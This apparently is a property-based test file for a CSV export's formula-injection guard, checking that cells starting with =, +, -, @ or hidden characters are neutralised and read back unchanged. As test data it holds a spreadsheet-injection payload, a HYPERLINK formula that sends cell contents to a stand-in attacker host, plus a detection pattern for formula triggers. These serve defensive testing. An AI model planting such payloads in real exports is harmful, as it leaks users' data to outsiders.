import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '#testing/parse-csv.ts';
import { escapeFormula, toCsv, unguardCell } from './csv.ts';

const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom('=', '+', '-', '@', '|', '%', "'", '"', ',', ';', '\t', '\r', '\n', '\0', ' ', '\u00a0'),
    fc.constantFrom('\ufeff', '\uff1d', '\uff0b', '\uff0d', '\uff20', 'a', '7'),
    fc.string({ minLength: 1, maxLength: 1, unit: 'binary' }),
  ),
  maxLength: 12,
});

describe('a guarded cell', () => {
  it('is read back as it was before it was guarded', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(unguardCell(escapeFormula(text))).toBe(text);
      }),
      { numRuns: 2000, examples: [["'"], ["''"], ["'=1"], ['+1 415 555'], ['-'], [' =1'], ['\n'], ['']] },
    );
  });

  it('never starts with a sign that makes a spreadsheet run it', () => {
    // oxlint-disable-next-line no-control-regex -- as in the writer
    const runs = /^[\s\u0000-\u001f\u007f\u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n\0]/;
    fc.assert(
      fc.property(hostile, (text) => {
        expect(escapeFormula(text)).not.toMatch(runs);
      }),
      { numRuns: 2000 },
    );
  });

  it.each('\u200b\u200d\u2060\ufeff\u00ad\u061c\u202e\u2800\u3164\u3000\u0085'.split(''))(
    'is guarded where its formula stands behind what cannot be seen: %j',
    (unseen) => {
      expect(escapeFormula(`${unseen}=1+1`)).toBe(`'${unseen}=1+1`);
      expect(escapeFormula(`${unseen}${unseen} @SUM(1)`)).toMatch(/^'/);
      expect(escapeFormula(`${unseen}A-17`)).toBe(`${unseen}A-17`);
    },
  );

  it('has no formula behind what a spreadsheet with other separators splits it at', () => {
    const address = '1 Main St;=HYPERLINK("https://evil.example/"&A1);x';
    expect(escapeFormula(address)).toBe(`1 Main St;'=HYPERLINK("https://evil.example/"&A1);x`);
    expect(escapeFormula('Box\n=1+1\r\n\t@SUM(1)')).toBe("Box\n'=1+1\r\n\t'@SUM(1)");
    expect(escapeFormula("a;b\nc 'quoted' 5-6")).toBe("a;b\nc 'quoted' 5-6");
    fc.assert(
      fc.property(hostile, (text) => {
        for (const part of escapeFormula(text).split(/[;\t\r\n]/))
          expect(part).not.toMatch(/^[ \u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
      }),
      { numRuns: 2000 },
    );
  });

  it('has no apostrophe where the text is harmless', () => {
    for (const text of ['A-17', '12 Main St', '007', '1e5', 'O’Neill', ''])
      expect(escapeFormula(text)).toBe(text);
  });
});

it('a CSV file is read back as the rows that it was made of', () => {
  fc.assert(
    fc.property(fc.array(fc.array(hostile, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
      expect(parseCsv(toCsv(rows)).map((row) => row.map(unguardCell))).toEqual(rows);
    }),
    { numRuns: 1000 },
  );
});
